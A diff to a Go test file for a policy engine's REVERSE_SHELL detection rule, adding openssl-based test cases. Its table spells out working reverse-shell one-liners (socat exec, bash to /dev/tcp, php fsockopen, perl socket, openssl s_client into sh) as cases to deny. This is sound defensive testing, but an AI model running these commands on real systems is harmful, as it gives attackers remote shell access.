@@ -79,6 +79,8 @@ func TestRemoteCodeAndReverseShells(t *testing.T) {
 		{Name: "socat exec", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "socat", "TCP:10.0.0.1:4444", "EXEC:/bin/bash")}}, Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "bash -i >& /dev/tcp", Facts: sdk.Facts{Commands: []sdk.Command{{ID: 1, Name: "bash", Args: []string{"-i"}, Redirects: []sdk.Redirect{{Op: ">&", Fd: -1, Target: "/dev/tcp/10.0.0.8/9001"}}}}}, Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "fifo shell into nc", Facts: fifo, Rule: "REVERSE_SHELL", Want: deny},
+		{Name: "openssl s_client into sh", Facts: pipe(packtest.Cmd(0, "openssl", "s_client", "-quiet", "-connect", "h:443"), packtest.Cmd(0, "sh")), Rule: "REVERSE_SHELL", Want: deny},
+		{Name: "openssl base64 -d into sh is a decoder", Facts: pipe(packtest.Cmd(0, "echo", "bHM="), packtest.Cmd(0, "openssl", "base64", "-d"), packtest.Cmd(0, "sh")), Rule: "REVERSE_SHELL"},
 		{Name: "php fsockopen shell", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "php", "-r", `$s=fsockopen("10.0.0.1",1234);exec("/bin/sh -i <&3 >&3 2>&3");`)}}, Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "perl socket shell", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "perl", "-e", `use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));exec("/bin/sh -i");`)}}, Rule: "REVERSE_SHELL", Want: deny},
 		{Name: "perl one-liner", Facts: sdk.Facts{Commands: []sdk.Command{packtest.Cmd(1, "perl", "-ne", `print if /socket/`)}}, Rule: "REVERSE_SHELL"},
